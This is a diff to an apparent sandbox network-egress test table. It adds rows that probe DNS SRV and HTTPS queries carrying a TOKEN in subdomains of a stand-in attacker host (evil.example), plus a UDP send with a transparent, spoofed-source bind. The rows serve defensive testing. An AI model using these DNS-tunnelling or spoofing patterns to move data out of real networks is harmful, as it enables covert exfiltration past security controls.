@@ -128,6 +128,11 @@ NAMES = [
     Row("dns-null", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 10))),
     Row("dns-txt-wildcard", ("net:types",),
         send("udp", RESOLVER, 53, question("TOKEN.wild.example", 16))),
+    # Types that are asked for where the name is allowed.
+    Row("dns-srv", TYPES, send("udp", RESOLVER, 53, question("_x._tcp.TOKEN.example", 33)),
+        alone=False),
+    Row("dns-https", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 65)),
+        alone=False),
     Row("dns-suffix", LOOKUP,
         send("udp", RESOLVER, 53, question("ok.example.TOKEN.example"))),
     Row("dns-wildcard-deep", LOOKUP,
@@ -357,6 +362,9 @@ DATAGRAMS = [
     Row("raw-ip", RAW, send("raw-ip", OTHER, 0, ip_packet), **ROOT),
     Row("source-route", ("off:capabilities", "off:user", "off:net"),
         send("udp", WEB, 9000, "TOKEN", options=[f"--route={OTHER}", DEAF]), **ROOT),
+    Row("transparent", ("off:capabilities", "off:user", "off:net"),
+        send("udp", WEB, 9000, "TOKEN", options=["--transparent", "--bind=198.51.100.7", DEAF]),
+        **ROOT),
     Row("packet", RAW, send("packet", "lo", 0, ip_packet), **ROOT),
 ]
 
